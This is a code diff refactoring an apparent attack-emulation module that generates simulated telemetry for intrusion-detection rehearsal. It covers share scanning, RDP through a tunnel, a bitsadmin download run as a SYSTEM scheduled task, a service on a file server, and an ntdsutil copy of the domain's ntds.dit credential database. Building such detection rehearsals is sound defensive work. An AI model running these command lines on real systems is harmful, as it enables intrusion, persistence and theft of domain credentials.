@@ -12,7 +12,6 @@ from tocsin.rehearse.scene import Scene
 from tocsin.rehearse.stories.hold import MINUTE, Hold, implant, keeps
 from tocsin.rehearse.stories.means import calls_home, typed
 from tocsin.rehearse.stories.story import Story
-from tocsin.rehearse.world import Body
 
 # Through which libraries a dump is taken.
 _STACK: Final = ("ntdll.dll+9d234", "KERNELBASE.dll+2c13e", "dbgcore.dll+6ce2")
@@ -74,89 +73,72 @@ def roasts(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
 
 def moves(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
     """Through a tunnel to a jump host by remote desktop, from there to the file server as a service."""
-    body, machine, dice = story.body, hold.web, story.dice
-    run = implant(hold)
-    account = hold.account
-    jump = scene.machine(body.one("jump"))
-    files = scene.machine(body.one("file"))
-    for technique, line in (
-        ("T1135", f"net view \\\\{files.host.name} /all"),
-        ("T1046", f"{_TEMP}mkt.exe -c 445 {body.inside}.1.1-60"),
-    ):
-        if not _does(story, technique):
-            continue
+    files = scene.machine(story.body.one("file"))
+    origin, account = implant(hold), hold.account
+    if _does(story, "T1135"):
+        line = f"net view \\\\{files.host.name} /all"
         with story.step(
-            scene,
-            ts_us,
-            technique,
-            f"They look for more machines: {line}",
-            host=machine.host,
-            account="NT AUTHORITY\\SYSTEM",
+            scene, ts_us, "T1135", "They ask for shares", host=hold.web.host, account="NT AUTHORITY\\SYSTEM"
         ):
-            if technique == "T1135":
-                typed(scene, machine, ts_us, run, line)
-            else:
-                processes.writes(scene, run, ts_us, _TEMP + "mkt.exe")
-                scout = processes.once(scene, machine, ts_us + 1_000_000, _TEMP + "mkt.exe", line, run, lasts_s=30)
-                at = ts_us + 1_500_000
-                for host in body.with_role("server"):
-                    state = "SF" if host.kind == "windows" else "REJ"
-                    network.connect(
-                        scene,
-                        at,
-                        machine.host,
-                        host,
-                        445,
-                        sent=240,
-                        received=410,
-                        lasts_s=0.3,
-                        state=state,
-                        run=scout if dice.chance(0.5) else None,
-                    )
-                    at += 300_000 + dice.below(2_000_000)
-        ts_us += 4 * MINUTE
-    origin = run
+            typed(scene, hold.web, ts_us, origin, line)
+    if _does(story, "T1046"):
+        _scouts(scene, story, hold, ts_us + 4 * MINUTE)
+    at = ts_us + 8 * MINUTE
     if _does(story, "T1021.001"):
-        with story.step(
-            scene,
-            ts_us,
-            "T1021.001 T1078.002 T1572",
-            "Remote desktop through a tunnel to the jump host",
-            host=jump.host,
-            account=account,
-        ):
-            lasts = 1500 + dice.below(1200)
-            calls_home(
-                scene,
-                story,
-                run,
-                hold.means.home[0],
-                ts_us - 5_000_000,
-                sent=5_400_000,
-                received=900_000,
-                lasts_s=lasts,
-            )
-            session, shell = remote(scene, body, account, machine.host, jump, ts_us, lasts, run)
-            origin = prompt = processes.start(
-                scene, jump, ts_us + 30_000_000, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', shell
-            )
-            for number, line in enumerate(("quser", f"net use \\\\{files.host.name}\\C$", "cmdkey /list")):
-                typed(scene, jump, ts_us + (60 + 45 * number) * 1_000_000, prompt, line, through="")
-            _second(scene, story, hold, ts_us + 260_000_000, prompt, session)
-            processes.end(scene, prompt, ts_us + int(lasts * 1e6) - 2_000_000)
-            processes.end(scene, shell, ts_us + int(lasts * 1e6) - 1_000_000)
-            logons.logoff(scene, jump, ts_us + int(lasts * 1e6), session)
-    at = ts_us + 9 * MINUTE
+        origin = _desktop(scene, story, hold, at, files.host.name)
+    at += 9 * MINUTE
     if _does(story, "T1021.002 T1569.002"):
-        with story.step(
-            scene,
-            at,
-            "T1021.002 T1569.002",
-            "Their program is put on the file server and run as a service",
-            host=files.host,
-            account=account,
-        ):
+        what = "Their program is put on the file server and run as a service"
+        with story.step(scene, at, "T1021.002 T1569.002", what, host=files.host, account=account):
             _service(scene, story, at, origin, files, account)
+
+
+def _scouts(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
+    """A tool tries all servers for shares."""
+    body, machine, run, dice = story.body, hold.web, implant(hold), story.dice
+    tool = _TEMP + "mkt.exe"
+    what = f"{story.profile.software.get('scout', 'A tool') if story.profile else 'A tool'} looks for more machines"
+    with story.step(scene, ts_us, "T1046", what, host=machine.host, account="NT AUTHORITY\\SYSTEM"):
+        processes.writes(scene, run, ts_us, tool)
+        line = f"{tool} -c 445 {body.inside}.1.1-60"
+        scout = processes.once(scene, machine, ts_us + 1_000_000, tool, line, run, lasts_s=60)
+        at = ts_us + 1_500_000
+        for host in body.with_role("server"):
+            network.connect(
+                scene,
+                at,
+                machine.host,
+                host,
+                445,
+                sent=240,
+                received=410,
+                lasts_s=0.3,
+                state="SF" if host.kind == "windows" else "REJ",
+                run=scout if dice.chance(0.5) else None,
+            )
+            at += 300_000 + dice.below(2_000_000)
+
+
+def _desktop(scene: Scene, story: Story, hold: Hold, ts_us: int, files: str) -> Running:
+    """Remote desktop to the jump host; returns the prompt that they use there."""
+    body, run, account = story.body, implant(hold), hold.account
+    jump = scene.machine(body.one("jump"))
+    lasts = 1500 + story.dice.below(1200)
+    end = ts_us + int(lasts * 1e6)
+    what = "Remote desktop through a tunnel to the jump host"
+    with story.step(scene, ts_us, "T1021.001 T1078.002 T1572", what, host=jump.host, account=account):
+        home = hold.means.home[0]
+        calls_home(scene, story, run, home, ts_us - 5_000_000, sent=5_400_000, received=900_000, lasts_s=lasts)
+        session, shell = remote(scene, body, account, hold.web.host, jump, ts_us, lasts, run)
+        image = SYSTEM32 + "cmd.exe"
+        prompt = processes.start(scene, jump, ts_us + 30_000_000, image, f'"{image}" ', shell)
+        for number, line in enumerate(("quser", f"net use \\\\{files}\\C$", "cmdkey /list")):
+            typed(scene, jump, ts_us + (60 + 45 * number) * 1_000_000, prompt, line)
+        _second(scene, story, hold, ts_us + 260_000_000, prompt, session)
+        processes.end(scene, prompt, end - 2_000_000)
+        processes.end(scene, shell, end - 1_000_000)
+        logons.logoff(scene, jump, end, session)
+    return prompt
 
 
 def _second(scene: Scene, story: Story, hold: Hold, ts_us: int, prompt: Running, session: Session) -> None:
@@ -167,13 +149,13 @@ def _second(scene: Scene, story: Story, hold: Hold, ts_us: int, prompt: Running,
     image, name = "C:\\ProgramData\\Intel\\Telemetry\\igfxtray64.exe", "\\Microsoft\\Windows\\Power\\AnalyzePower"
     what = "A task starts another program of theirs on the jump host"
     with story.step(scene, ts_us, "T1053.005 T1036.005", what, host=machine.host, account=hold.account):
-        typed(scene, machine, ts_us, prompt, f"bitsadmin /transfer a https://{site.name}/t {image}", through="")
+        typed(scene, machine, ts_us, prompt, f"bitsadmin /transfer a https://{site.name}/t {image}", lasts_s=4)
         calls_home(scene, story, machine.core["netsvcs"], site, ts_us + 400_000, received=688_128)
         processes.writes(scene, machine.core["netsvcs"], ts_us + 1_500_000, image)
         line = f'schtasks /create /f /sc onstart /ru SYSTEM /tn "{name}" /tr {image}'
-        typed(scene, machine, ts_us + 40_000_000, prompt, line, through="")
+        typed(scene, machine, ts_us + 40_000_000, prompt, line)
         changes.task(scene, machine, ts_us + 40_300_000, session, name, image, "")
-        typed(scene, machine, ts_us + 60_000_000, prompt, f'schtasks /run /tn "{name}"', through="")
+        typed(scene, machine, ts_us + 60_000_000, prompt, f'schtasks /run /tn "{name}"')
         owner = machine.core["netsvcs"]
         hold.second = processes.start(scene, machine, ts_us + 61_000_000, image, image, owner, integrity="System")
     keeps(scene, story, hold, "second", "netsvcs")
@@ -201,70 +183,48 @@ def _service(scene: Scene, story: Story, ts_us: int, parent: Running, server: Ma
         scene, server, ts_us + 2_500_000, _TEMP + name, f"{_TEMP}{name}", server.core["services"], copy_of="wlbsvc.exe"
     )
     typed(scene, server, ts_us + 20_000_000, run, "whoami")
-    typed(scene, server, ts_us + 50_000_000, run, 'dir "D:\\Shares" /s /a-d', image=SYSTEM32 + "cmd.exe", through="")
+    typed(scene, server, ts_us + 50_000_000, run, 'dir "D:\\Shares" /s /a-d')
 
 
 def takes_directory(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
-    """The directory's database, from a controller."""
-    body: Body = story.body
-    controller, jump = scene.machine(body.one("dc")), scene.machine(body.one("jump"))
-    account = hold.account
+    """The directory's database, from a controller: a copy of the file, or what one controller asks of another."""
+    body, account = story.body, hold.account
+    controller, jump = scene.machine(body.one("dc")), body.one("jump")
     if _does(story, "T1003.003"):
-        with story.step(
-            scene,
-            ts_us,
-            "T1003.003 T1078.002",
-            "A copy of the directory's database is made on a controller",
-            host=controller.host,
-            account=account,
-        ):
-            session = reach(
-                scene,
-                body,
-                account,
-                jump.host,
-                controller,
-                ts_us,
-                [("IPC$", "winreg"), ("C$", "Windows\\Temp")],
-                elevated=True,
-            )
-            host = processes.start(
-                scene,
-                controller,
-                ts_us + 1_000_000,
-                SYSTEM32 + "wbem\\WmiPrvSE.exe",
-                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
-                controller.core["dcom"],
-            )
-            line = 'ntdsutil.exe "ac i ntds" ifm "create full C:\\Windows\\Temp\\tmp" q q'
-            shell = processes.once(
-                scene,
-                controller,
-                ts_us + 1_400_000,
-                SYSTEM32 + "cmd.exe",
-                f"cmd.exe /c {line}",
-                host,
-                session,
-                lasts_s=40,
-                integrity="High",
-            )
-            tool = processes.once(
-                scene, controller, ts_us + 1_500_000, SYSTEM32 + "ntdsutil.exe", line, shell, session, lasts_s=38
-            )
-            processes.writes(scene, tool, ts_us + 30_000_000, "C:\\Windows\\Temp\\tmp\\Active Directory\\ntds.dit")
-            processes.writes(scene, tool, ts_us + 33_000_000, "C:\\Windows\\Temp\\tmp\\registry\\SYSTEM")
-            processes.end(scene, host, ts_us + 90_000_000)
+        what = "A copy of the directory's database is made on a controller"
+        with story.step(scene, ts_us, "T1003.003 T1078.002", what, host=controller.host, account=account):
+            files = [("IPC$", "winreg"), ("C$", "Windows\\Temp")]
+            session = reach(scene, body, account, jump, controller, ts_us, files, elevated=True)
+            _copies(scene, controller, session, ts_us)
     elif _does(story, "T1003.006"):
-        with story.step(
-            scene,
-            ts_us,
-            "T1003.006",
-            "They ask a controller for its directory as another would",
-            host=controller.host,
-            account=account,
-        ):
-            session = reach(scene, body, account, jump.host, controller, ts_us, [("IPC$", "drsuapi")], elevated=True)
+        what = "They ask a controller for its directory as another would"
+        with story.step(scene, ts_us, "T1003.006", what, host=controller.host, account=account):
+            session = reach(scene, body, account, jump, controller, ts_us, [("IPC$", "drsuapi")], elevated=True)
             changes.replicated(scene, controller, ts_us + 400_000, session)
+
+
+def _copies(scene: Scene, controller: Machine, session: Session, ts_us: int) -> None:
+    """By WMI, and the tool that administrators make copies with."""
+    image = SYSTEM32 + "wbem\\WmiPrvSE.exe"
+    owner = controller.core["dcom"]
+    host = processes.start(scene, controller, ts_us + 1_000_000, image, f"{image} -secured -Embedding", owner)
+    line = 'ntdsutil.exe "ac i ntds" ifm "create full C:\\Windows\\Temp\\tmp" q q'
+    shell = processes.once(
+        scene,
+        controller,
+        ts_us + 1_400_000,
+        SYSTEM32 + "cmd.exe",
+        f"cmd.exe /c {line}",
+        host,
+        session,
+        lasts_s=40,
+        integrity="High",
+    )
+    image = SYSTEM32 + "ntdsutil.exe"
+    tool = processes.once(scene, controller, ts_us + 1_500_000, image, line, shell, session, lasts_s=38)
+    processes.writes(scene, tool, ts_us + 30_000_000, "C:\\Windows\\Temp\\tmp\\Active Directory\\ntds.dit")
+    processes.writes(scene, tool, ts_us + 33_000_000, "C:\\Windows\\Temp\\tmp\\registry\\SYSTEM")
+    processes.end(scene, host, ts_us + 90_000_000)
 
 
 def misleads(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
